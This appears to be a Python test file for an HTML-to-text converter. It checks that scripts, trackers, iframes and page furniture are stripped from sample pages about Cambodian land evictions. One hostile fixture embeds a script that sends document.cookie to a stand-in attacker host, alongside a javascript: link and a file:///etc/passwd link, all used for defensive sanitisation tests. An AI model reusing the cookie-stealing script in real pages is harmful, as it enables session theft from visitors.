from desktop.ingest.document import prepare
from desktop.ingest.html_text import html_to_text

HOSTILE = """<!doctype html><html><head><title>Report &amp; findings</title>
<script>fetch('https://evil.example/'+document.cookie)</script>
<style>body{background:url(https://tracker.example/p.gif)}</style></head>
<body><nav>Home | About</nav><h1>Land   evictions</h1>
<p>Families in <b>Phnom Penh</b> were evicted.<br>Second line.</p>
<img src="https://tracker.example/pixel.gif" alt="Protest photo">
<iframe src="https://ads.example/"></iframe>
<p onclick="alert(1)">ខេមរា&nbsp;text</p></body></html>"""


def test_scripts_styles_frames_and_navigation_are_dropped():
    text, title = html_to_text(HOSTILE)
    assert title == "Report & findings"
    for bad in ("fetch", "cookie", "background", "tracker", "ads.example", "Home | About", "alert"):
        assert bad not in text
    assert "Land evictions" in text
    assert "Families in Phnom Penh were evicted.\nSecond line." in text
    assert "Protest photo" in text
    assert "ខេមរា\u00a0text" in text


def test_prepare_keeps_the_html_original_verbatim():
    prepared = prepare(HOSTILE, "html")
    assert prepared.original == HOSTILE
    assert prepared.title_hint == "Report & findings"
    assert "<script>" not in prepared.text


def test_web_links_keep_their_address_and_others_are_dropped():
    text, _ = html_to_text(
        '<p><a href="https://www.ohchr.org/report">the report</a>, '
        '<a href="javascript:alert(1)">click</a>, <a href="file:///etc/passwd">passwords</a>, '
        '<a href="https://x.org">https://x.org</a></p>'
    )
    assert text == "the report (https://www.ohchr.org/report), click, passwords, https://x.org"


def test_a_broken_marked_section_is_text_not_a_crash():
    text, _ = html_to_text("<p>Before</p><![OCTYPE x]><p>After</p>")
    assert "Before" in text and "After" in text


def furniture(html: str) -> list[tuple[str, str]]:
    from desktop.ingest.html_text import read_html

    page = read_html(html)
    return [(rule, page.text[start:end]) for start, end, rule in page.junk]


ARTICLE = "<p>" + "The commune chief told the families that the land would be cleared within a month. " * 4 + "</p>"


def test_furniture_is_told_by_tag_and_by_the_words_of_class_and_id_names():
    html = (f'<article>{ARTICLE}<aside>Pull quote</aside><footer>Tags: land</footer>'
            '<div class="postShareButtons">Facebook</div><div id="related_articles">Older story</div>'
            '<div class="cookie-consent">OK</div><div class="GDPRBanner">Agree</div>'
            '<p class="entry-byline">By Sok Chan</p><div class="ad-slot">Buy now</div>'
            '<span class="photo-credit">Photo: AFP</span><div class="read-more">Next story</div>'
            '<div role="complementary">Links</div></article>')
    assert furniture(html) == [
        ("html-aside", "Pull quote"), ("html-footer", "Tags: land"), ("html-share", "Facebook"),
        ("html-related", "Older story"), ("html-cookie", "OK"), ("html-cookie", "Agree"),
        ("html-byline", "By Sok Chan"), ("html-ad", "Buy now"), ("html-credit", "Photo: AFP"),
        ("html-related", "Next story"), ("html-aside", "Links")]


def test_words_are_matched_whole_not_as_parts_of_other_words():
    html = (f'<div class="shared-content">{ARTICLE}</div><div class="loader">Loading the report</div>'
            '<div class="header-adjacent">Land</div><div class="badge">Verified</div><div class="shadow">x</div>')
    assert furniture(html) == []


def test_layout_classes_on_the_page_and_wrappers_of_most_of_it_are_not_furniture():
    html = (f'<body class="has-sidebar single-author"><main class="sidebar-layout"><article class="post ad">'
            f'{ARTICLE}</article></main></body>')
    assert furniture(html) == []
    wrapped = f'<div class="with-sidebar">{ARTICLE}<div class="share">Facebook Twitter</div></div>'
    assert furniture(wrapped) == [("html-share", "Facebook Twitter")]  # the wrapper is the page, its share row not


def test_a_quotations_footer_is_its_attribution_and_stays():
    html = f"{ARTICLE}<blockquote><p>We will not move.</p><footer>— a villager</footer></blockquote>"
    assert furniture(html) == []


def test_furniture_nested_in_furniture_is_one_block():
    html = f'{ARTICLE}<footer><div class="share">Facebook</div><p>© 2023 LICADHO</p></footer>'
    assert furniture(html) == [("html-footer", "Facebook\n\n© 2023 LICADHO")]


def test_separate_pieces_do_not_run_together():
    text, _ = html_to_text('<p><img src="a.jpg" alt="Mu Sochua">Thanks so much to all of you.</p>'
                           '<p><span class="wp-caption-text">Mu Sochua</span>Thanks again.</p>'
                           '<p>Posted<time datetime="2023-03-03">3 March 2023</time>by Admin</p>'
                           '<p>Good news <img alt="🙂"> today</p>'
                           '<figure><img src="b.jpg"><figcaption>The court</figcaption></figure>The hearing')
    assert text == ("Mu Sochua\nThanks so much to all of you.\n\nMu Sochua\n\nThanks again.\n\n"
                    "Posted 3 March 2023 by Admin\n\nGood news 🙂 today\n\nThe court\n\nThe hearing")


def test_a_pages_own_marker_characters_cannot_misplace_its_furniture():
    html = f'<p>\ue001Before\ue002</p>{ARTICLE}<aside>Side\ue002 note</aside>'
    assert furniture(html) == [("html-aside", "Side note")]


def test_many_unclosed_tags_cost_little():
    import time

    started = time.monotonic()
    text, _ = html_to_text("<b><i>" * 20000 + "text" + "</i>" * 20000 + "</b>" * 20000)
    assert text == "text" and time.monotonic() - started < 5
